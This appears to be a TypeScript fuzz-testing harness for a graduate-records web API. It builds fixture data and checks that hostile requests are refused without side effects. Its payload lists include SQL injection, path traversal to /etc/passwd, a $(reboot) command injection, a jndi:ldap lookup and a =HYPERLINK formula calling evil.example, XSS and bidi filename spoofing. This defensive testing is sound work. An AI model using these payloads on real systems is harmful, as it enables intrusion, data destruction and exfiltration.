import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { generateNationalId } from '@diploma-desk/db';
import fc from 'fast-check';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { expect } from 'vitest';
import { createGraduate, graduateCsv, importBody, pdfBytes, uploadBody } from '../fixtures.ts';
import { createTestApp, ORIGIN, type TestApp } from '../helpers.ts';

/**
 * The fuzzers' shared harness: a world of real records to aim at, hostile values, and the one assertion every
 * hostile call must pass — a 4xx problem+json within the time limit, and nothing written to the database or
 * to the files under DATA_DIR.
 *
 * FUZZ_RUNS is the number of runs per property (default 30: the whole folder in under 90 s on PostgreSQL);
 * FUZZ_SEED replays a run (every property prints the seed it used).
 */
export const FUZZ_RUNS = Number(process.env.FUZZ_RUNS ?? 30);
export const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 14051128);
/** Longest a hostile call may take before it counts as a hang. */
export const CALL_TIMEOUT_MS = 5_000;

export type Who = 'admin' | 'office' | 'freeEd' | 'welfare' | 'auditor' | 'graduate';
const USERNAMES: Record<Exclude<Who, 'graduate'>, string> = {
  admin: 'admin',
  office: 'graduate.office',
  freeEd: 'free.education',
  welfare: 'welfare.office',
  auditor: 'auditor',
};

/** Records that exist, so that hostile input reaches real rows rather than stopping at "not found". */
export interface World {
  h: TestApp;
  cookie: Record<Who, string>;
  /** The cookie of a session that was logged out. */
  endedCookie: string;
  /** A graduate with an account, an open draft request, an uploaded document and two corrections. */
  graduate: {
    id: string;
    nationalId: string;
    studentNumber: string;
    requestId: string;
    documentId: string;
    pendingCorrectionId: string;
    reviewedCorrectionId: string;
  };
  /** Another graduate with their own account and open request. */
  other: { id: string; requestId: string; cookie: string };
  /** A staff account the admin may edit. */
  userId: string;
  /** A holiday the admin added (not one of the seeded ones). */
  holidayId: string;
  /** The account ids of the demo staff (the officers requests are assigned to). */
  staffIds: Record<Exclude<Who, 'graduate'>, string>;
  /** Two saved views of the request list, the Graduate Office's, the first shared with the office. */
  view: { id: string; name: string; otherName: string };
  /** A graduate import of the Graduate Office, dry-run and not committed: its one line is new. */
  importId: string;
  /** The newest audit event when the world was built. */
  lastEventId: string;
  /** An address locked out of logging in: a well-formed login from it is refused before any lookup. */
  lockedIp: string;
  /** Every table of the schema, from information_schema. */
  tables: string[];
  /** Tables with a `version` column, whose sum shows an in-place update. */
  versioned: string[];
}

async function ok(res: LightMyRequestResponse, status: number, what: string) {
  if (res.statusCode !== status) throw new Error(`${what}: ${res.statusCode} ${res.body}`);
  return res.body === '' ? undefined : res.json();
}

export async function createWorld(env: Record<string, string> = {}): Promise<World> {
  const lockedIp = '203.0.113.77';
  // The lockout lasts the whole file (a day): a well-formed login from lockedIp must stay refused.
  const h = await createTestApp({ LOGIN_MAX_FAILURES_PER_IP: '3', LOGIN_WINDOW_MINUTES: '1440', ...env });
  const cookie = {} as Record<Who, string>;
  for (const [who, username] of Object.entries(USERNAMES)) cookie[who as Who] = await h.login(username);
  const g = await createGraduate(h, cookie.office, cookie.admin);
  cookie.graduate = g.cookie;
  const other = await createGraduate(h, cookie.office, cookie.admin);
  const call = (who: string, options: InjectOptions) => h.call(who, options);
  const request = await ok(await call(g.cookie, { method: 'POST', url: '/api/requests', payload: {} }), 201, 'request');
  const otherRequest = await ok(
    await call(other.cookie, { method: 'POST', url: '/api/requests', payload: {} }),
    201,
    'other request',
  );
  const document = await ok(
    await call(g.cookie, {
      method: 'POST',
      url: `/api/requests/${request.id}/documents`,
      ...uploadBody('cancellation_sheet', pdfBytes()),
    }),
    201,
    'document',
  );
  const correct = (changes: object) =>
    call(g.cookie, { method: 'POST', url: `/api/graduates/${g.id}/corrections`, payload: { changes } });
  const pending = await ok(await correct({ fatherName: 'حسین' }), 201, 'correction');
  const reviewed = await ok(await correct({ firstName: 'سارا' }), 201, 'correction');
  await ok(
    await call(cookie.office, {
      method: 'POST',
      url: `/api/corrections/${reviewed.id}/review`,
      payload: { decision: 'rejected', note: 'مدرک پیوست نشده است' },
    }),
    200,
    'review',
  );
  const user = await ok(
    await call(cookie.admin, {
      method: 'POST',
      url: '/api/users',
      payload: { username: 'fuzz.target', password: 'a long enough passphrase', role: 'auditor', displayName: 'هدف' },
    }),
    201,
    'user',
  );
  const saveView = async (name: string, scope: string) =>
    ok(
      await call(cookie.office, {
        method: 'POST',
        url: '/api/saved-views',
        payload: { resource: 'requests', name, scope, filter: { queue: 'graduate_officer' } },
      }),
      201,
      'saved view',
    );
  const view = await saveView('صف دفتر', 'office');
  const otherView = await saveView('دیرکردها', 'private');
  const imported = await ok(
    await call(cookie.office, {
      method: 'POST',
      url: '/api/graduate-imports',
      ...importBody(graduateCsv([{ studentNumber: '9160000001', nationalId: generateNationalId() }])),
    }),
    201,
    'graduate import',
  );
  const holiday = await ok(
    await call(cookie.admin, {
      method: 'POST',
      url: '/api/holidays',
      payload: { date: '2030-12-31', nameFa: 'تعطیل ویژه', nameEn: 'Special closure', kind: 'other' },
    }),
    201,
    'holiday',
  );
  const ended = await h.login('auditor');
  await ok(await call(ended, { method: 'POST', url: '/api/auth/logout' }), 204, 'logout');
  for (let i = 0; i < 3; i += 1) {
    await h.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      remoteAddress: lockedIp,
      headers: { host: 'localhost:80', origin: ORIGIN },
      payload: { username: 'nobody', password: 'not a password' },
    });
  }
  const graduate = await ok(
    await call(cookie.office, { method: 'GET', url: `/api/graduates/${g.id}` }),
    200,
    'graduate',
  );
  const { rows: tables } = await sql<{ name: string }>`
    SELECT table_name AS name FROM information_schema.tables
    WHERE table_schema = current_schema() AND table_type = 'BASE TABLE' ORDER BY table_name`.execute(h.t.db);
  const { rows: versioned } = await sql<{ name: string }>`
    SELECT table_name AS name FROM information_schema.columns
    WHERE table_schema = current_schema() AND column_name = 'version' ORDER BY table_name`.execute(h.t.db);
  const world: World = {
    h,
    cookie,
    endedCookie: ended,
    graduate: {
      id: g.id,
      nationalId: graduate.nationalId,
      studentNumber: graduate.studentNumber,
      requestId: request.id,
      documentId: document.id,
      pendingCorrectionId: pending.id,
      reviewedCorrectionId: reviewed.id,
    },
    other: { id: other.id, requestId: otherRequest.id, cookie: other.cookie },
    userId: user.id,
    holidayId: holiday.id,
    staffIds: Object.fromEntries(
      await Promise.all(
        Object.entries(USERNAMES).map(async ([who, username]) => [
          who,
          (await h.t.db.selectFrom('users').select('id').where('username', '=', username).executeTakeFirstOrThrow()).id,
        ]),
      ),
    ) as World['staffIds'],
    view: { id: view.id, name: view.name, otherName: otherView.name },
    importId: imported.id,
    lastEventId: '0',
    lockedIp,
    tables: tables.map((t) => t.name),
    versioned: versioned.map((t) => t.name),
  };
  world.lastEventId = (await footprint(world)).lastEventId;
  if (world.tables.length < 10) throw new Error(`information_schema names only ${world.tables.join(', ')}`);
  return world;
}

/**
 * Every file under DATA_DIR (uploads in files/, their temporary copies in files/tmp, the audit heads). Empty
 * directories are not counted: storage leaves a shard directory (one of at most 256) behind when it removes
 * a refused upload, which holds nothing.
 */
async function listFiles(dir: string, base = dir): Promise<string[]> {
  const entries = await readdir(dir, { withFileTypes: true }).catch(() => []);
  const names: string[] = [];
  for (const e of entries) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) names.push(...(await listFiles(full, base)));
    else names.push(path.relative(base, full));
  }
  return names.sort();
}

/** What a write would change: the audit log's newest id, every table's row count, versions, and every file. */
export async function footprint(w: World) {
  // One round trip: the newest audit event, then every table's row count and every version column's sum.
  const parts = [
    `SELECT 'max' AS kind, 'audit_events' AS t, coalesce(max(id), 0)::text AS n FROM audit_events`,
    ...w.tables.map((t) => `SELECT 'rows', '${t}', count(*)::text FROM "${t}"`),
    ...w.versioned.map((t) => `SELECT 'version', '${t}', coalesce(sum(version), 0)::text FROM "${t}"`),
  ];
  const [{ rows }, files] = await Promise.all([
    sql<{ kind: string; t: string; n: string }>`${sql.raw(parts.join(' UNION ALL '))}`.execute(w.h.t.db),
    listFiles(w.h.config.dataDir),
  ]);
  const of = (kind: string) => Object.fromEntries(rows.filter((r) => r.kind === kind).map((r) => [r.t, r.n]));
  return { lastEventId: of('max').audit_events as string, rows: of('rows'), versions: of('version'), files };
}

/** Rejects when the promise has not settled in time: a hang is a failure, not a slow test. */
export async function within<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no answer within ${ms} ms: ${what}`)), ms);
  });
  try {
    return await Promise.race([promise, timeout]);
  } finally {
    clearTimeout(timer);
  }
}

/** One hostile call. `cookie` undefined is an anonymous caller; `origin: null` leaves the Origin header out. */
export interface Case {
  method: string;
  url: string;
  cookie?: string | undefined;
  origin?: string | null;
  headers?: Record<string, string>;
  payload?: string | Buffer;
  remoteAddress?: string;
  /** What is broken, for the failure message. */
  why: string;
}

let sent = 0;
/** How many hostile calls this file has made. */
export const casesSent = () => sent;

const preview = (payload: Case['payload']) => {
  if (payload === undefined) return '';
  const text = typeof payload === 'string' ? payload : payload.subarray(0, 300).toString('latin1');
  return ` ${JSON.stringify(text.slice(0, 300))}${text.length > 300 ? `… (${payload.length} long)` : ''}`;
};

export function describeCase(c: Case) {
  const url = c.url.length > 200 ? `${c.url.slice(0, 200)}… (${c.url.length} long)` : c.url;
  return `${c.why}: ${c.method} ${url}${preview(c.payload)}`;
}

/** Sends one call as a browser on the app's own origin would (unless the case says otherwise), within the time limit. */
export function send(w: World, c: Case): Promise<LightMyRequestResponse> {
  const headers: Record<string, string> = { host: 'localhost:80', ...c.headers };
  if (c.origin !== null) headers.origin = c.origin ?? ORIGIN;
  if (c.cookie) headers.cookie = c.cookie;
  sent += 1;
  return within(
    w.h.app.inject({
      method: c.method as InjectOptions['method'],
      url: c.url,
      headers,
      ...(c.payload !== undefined ? { payload: c.payload } : {}),
      ...(c.remoteAddress ? { remoteAddress: c.remoteAddress } : {}),
    }),
    CALL_TIMEOUT_MS,
    describeCase(c),
  );
}

/**
 * Sends the call and asserts the contract for hostile input: an answer within CALL_TIMEOUT_MS, a 4xx,
 * `application/problem+json` with type, title and the same status, and no change to the database or the files.
 */
export async function expectRefused(w: World, c: Case): Promise<LightMyRequestResponse> {
  const before = await footprint(w);
  const res = await send(w, c);
  const what = `${describeCase(c)}\n→ ${res.statusCode} ${res.headers['content-type']} ${res.body.slice(0, 500)}`;
  expect(res.statusCode, what).toBeGreaterThanOrEqual(400);
  expect(res.statusCode, what).toBeLessThan(500);
  expect(String(res.headers['content-type']), what).toMatch(/^application\/problem\+json(;|$)/);
  if (c.method !== 'HEAD') {
    const body = JSON.parse(res.body);
    expect(typeof body.type, what).toBe('string');
    expect(typeof body.title, what).toBe('string');
    expect(body.status, what).toBe(res.statusCode);
  }
  expect(await footprint(w), `${what}\n(wrote something)`).toEqual(before);
  return res;
}

/** Runs a property over hostile cases with the file's seed and run count; each case must be refused. */
export async function fuzz(w: World, name: string, cases: fc.Arbitrary<Case>) {
  await fc.assert(
    fc.asyncProperty(cases, async (c) => {
      await expectRefused(w, c);
    }),
    fuzzParameters(name),
  );
}

/** fast-check's parameters for a named property: FUZZ_RUNS runs, a seed derived from FUZZ_SEED and the name. */
export const fuzzParameters = (name: string) => ({
  numRuns: FUZZ_RUNS,
  seed: FUZZ_SEED + seedOffset(name),
  endOnFailure: true,
});

/** Each property gets its own stream of cases, still fixed by FUZZ_SEED. */
function seedOffset(name: string): number {
  let hash = 0;
  for (const ch of name) hash = (hash * 31 + (ch.codePointAt(0) ?? 0)) | 0;
  return Math.abs(hash) % 1_000_000;
}

export function announce(file: string) {
  console.info(`fuzz ${file}: FUZZ_SEED=${FUZZ_SEED}, FUZZ_RUNS=${FUZZ_RUNS} runs per property`);
}

export function report(file: string) {
  console.info(`fuzz ${file}: ${casesSent()} hostile calls sent`);
}

// ---- Hostile values ------------------------------------------------------------------------------------------

export const SQL_AND_PATHS = [
  "' OR 1=1--",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(10)--',
  "admin'--",
  '../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
  '$(reboot)',
  '$' + '{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%s%s%s%n',
  '=HYPERLINK("http://evil.example")',
  'NaN',
  'Infinity',
  '-1',
  '1e309',
  'null',
  'undefined',
  '__proto__',
  'constructor',
];

/** Persian and Arabic letters and digits, ZWNJ, bidi overrides and isolates, combining marks, emoji. */
export const MIXED_SCRIPT = [
  'محمد\u200cرضا',
  'علي كريمي',
  'سارا\u202eأحمد',
  '\u202egpj.exe',
  '\u2067مریم\u2069 Smith',
  '۱۴۰۵/۰۱/۰۱',
  '٠١٢٣٤٥٦٧٨٩',
  'ـــــ',
  'x\u200f\u200ey',
  '\u061c\u200d',
  'ﷺ',
  'a\u0301\u0301\u0301',
  '😀👨‍👩‍👧',
  '\ufeffBOM',
  '\ufffd\ufffe',
];

export const CONTROL = [
  '\u0000',
  'a\u0000b',
  '\u0007',
  '\b',
  '\t',
  'line\nbreak',
  '\r\n',
  '\u001b[31m',
  '\u007f',
  'x\u0001',
];

/** Strings without control characters: what a text field may hold, however hostile. */
export const hostileValidText = fc.oneof(
  fc.constantFrom(...SQL_AND_PATHS, ...MIXED_SCRIPT),
  fc.tuple(fc.constantFrom(...MIXED_SCRIPT), fc.constantFrom(...SQL_AND_PATHS)).map(([a, b]) => `${a} ${b}`),
);

/** A C0 control character or DEL: what text fields refuse (passwords aside). */
export const hasControl = (s: string) => [...s].some((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f);

export const controlText = fc
  .tuple(fc.constantFrom(...MIXED_SCRIPT, ...SQL_AND_PATHS, ''), fc.constantFrom(...CONTROL), fc.nat(5))
  .map(([text, control, at]) => text.slice(0, at) + control + text.slice(at));

/** Strings of about 1 MB (the body limit is 1 MiB): Latin, Persian, ZWNJ only, and NULs. */
const LONG_STRINGS = ['x'.repeat(1_048_600), 'ی'.repeat(600_000), '\u200c'.repeat(400_000), 'a\u0000'.repeat(530_000)];
export const longText = () => fc.constantFrom(...LONG_STRINGS);

/** Any text at all: binary code points, hostile fragments, control characters. */
export const anyText = fc.oneof(
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: hostileValidText, weight: 2 },
  { arbitrary: controlText, weight: 1 },
);

/** Values of every JSON type, biased to the hostile: huge, negative, fractional, NaN-like strings, nesting. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    true,
    false,
    0,
    -1,
    1.5,
    -0.25,
    1e308,
    -1e308,
    2 ** 53 + 2,
    Number.MAX_SAFE_INTEGER,
    'NaN',
    'Infinity',
    '-1',
    '1.5',
    '1e309',
    '99999999999999999999',
    '',
    ' ',
    [],
    {},
    [null],
    { $gt: '' },
    { $ne: null },
    ['accepted', 'rejected'],
  ),
  anyText,
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Nested arrays this deep, as JSON text. */
export const deepNesting = fc.integer({ min: 1_000, max: 100_000 }).map((n) => `${'['.repeat(n)}${']'.repeat(n)}`);

/** Raw URL path segments, as they would be on the wire. */
export const HOSTILE_SEGMENTS = [
  "'%20OR%201%3D1--",
  '%27%3B%20DROP%20TABLE%20users%3B--',
  '..',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%00',
  'x%00.pdf',
  '%E0%A4%A',
  '%',
  '%C0%AE%C0%AE',
  '-1',
  '0',
  '1.5',
  '-0.5',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '99999999999999999999',
  '9223372036854775808',
  '9999999999999999999',
  '%D9%85%D8%AD%D9%85%D8%AF%E2%80%8C%D8%B1%D8%B6%D8%A7',
  '%E2%80%AEfdp.exe',
  '%DB%B1%DB%B2%DB%B3',
  '__proto__',
  'constructor',
  'toString',
  '%20',
  'a'.repeat(101),
  'x'.repeat(5_000),
];
